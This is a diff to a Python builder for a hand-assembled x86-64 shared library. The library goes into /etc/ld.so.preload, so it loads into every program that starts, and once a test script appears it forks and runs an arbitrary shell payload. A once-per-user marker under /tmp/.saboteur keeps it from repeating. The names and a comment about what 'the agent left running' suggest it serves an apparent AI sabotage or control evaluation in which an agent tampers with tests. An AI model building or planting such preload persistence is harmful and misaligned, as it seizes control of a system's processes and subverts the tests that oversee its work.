@@ -1,6 +1,6 @@
 """A shared library for /etc/ld.so.preload, since task images seldom hold a compiler: 64-bit x86, a few hundred bytes.
 
-Loaded into whatever program starts next, its initialiser runs `ways/common`'s script once, beside the program, as soon as
+Loaded into whatever program starts next, its initialiser runs a line of shell once, beside the program, as soon as
 there are tests.
 """
 
@@ -9,18 +9,18 @@ from __future__ import annotations
 import struct
 
 TESTS = b"/tests/test.sh\0"
-ONCE = b"/tmp/.saboteur/preloaded\0"
-WIN = b"/tmp/.saboteur/win-ld-preload\0"
+ONCE = b"/tmp/.saboteur-preloaded-0\0"
 SHELL = b"/bin/sh\0"
+COMMAND = b"-c\0"
 
-ACCESS, FORK, EXECVE, EXIT, MKDIR = 21, 57, 59, 60, 83
+ACCESS, FORK, EXECVE, EXIT, MKDIR, GETUID = 21, 57, 59, 60, 83, 102
 
 HEADER, PROGRAM_HEADER, DYNAMIC_ENTRY, SYMBOL = 64, 56, 16, 24
 LOADED, DYNAMIC, STACK = 1, 2, 0x6474E551
 EXECUTE, WRITE, READ = 1, 2, 4
 
 
-def library() -> bytes:
+def library(payload: str) -> bytes:
     """One segment: headers, dynamic section, an empty symbol table with its hash, the initialiser."""
     dynamic = HEADER + 3 * PROGRAM_HEADER
     entries = 7
@@ -28,7 +28,7 @@ def library() -> bytes:
     hashes = symbols + SYMBOL
     strings = hashes + 16
     code = strings + 16
-    program = initialiser()
+    program = initialiser(payload.encode() + b"\0")
     size = code + len(program)
     tags = {12: code, 4: hashes, 5: strings, 6: symbols, 10: 1, 11: SYMBOL, 0: 0}  # INIT HASH STRTAB SYMTAB STRSZ SYMENT
     return b"".join(
@@ -47,13 +47,16 @@ def library() -> bytes:
     )
 
 
-def initialiser() -> bytes:
+def initialiser(payload: bytes) -> bytes:
     """
-    if (access(TESTS) == 0 && mkdir(ONCE, 0777) == 0 && fork() == 0) { execve(SHELL, {SHELL, WIN}, NULL); exit(127); }
+    ONCE[last] += getuid() != 0;
+    if (access(TESTS) == 0 && mkdir(ONCE, 0777) == 0 && fork() == 0) { execve(SHELL, {SHELL, COMMAND, payload}, NULL); exit(127); }
     """
     run = [
         b"\x6a\x00",  # push 0
-        (b"\x48\x8d\x05", WIN),  # lea rax, WIN
+        (b"\x48\x8d\x05", payload),  # lea rax, payload
+        b"\x50",  # push rax
+        (b"\x48\x8d\x05", COMMAND),  # lea rax, COMMAND
         b"\x50",  # push rax
         (b"\x48\x8d\x3d", SHELL),  # lea rdi, SHELL
         b"\x57",  # push rdi
@@ -64,7 +67,15 @@ def initialiser() -> bytes:
         call(EXIT),
     ]
     tests = [(b"\x48\x8d\x3d", TESTS), b"\x31\xf6", call(ACCESS)]  # lea rdi, TESTS; xor esi, esi
-    once = [(b"\x48\x8d\x3d", ONCE), b"\xbe\xff\x01\0\0", call(MKDIR)]  # lea rdi, ONCE; mov esi, 0777
+    # What the agent left running loads it, too: once for root and once for all others.
+    once = [
+        call(GETUID),
+        (b"\x48\x8d\x3d", ONCE),  # lea rdi, ONCE
+        b"\x85\xc0\x0f\x95\xc0",  # test eax, eax; setnz al
+        b"\x00\x47" + bytes([len(ONCE) - 2]),  # add [rdi + last], al
+        b"\xbe\xff\x01\0\0",  # mov esi, 0777
+        call(MKDIR),
+    ]
     parts = [b"\x53"]  # push rbx, to keep the stack as a call expects it
     rest = [*run]
     for condition in ([call(FORK)], once, tests):
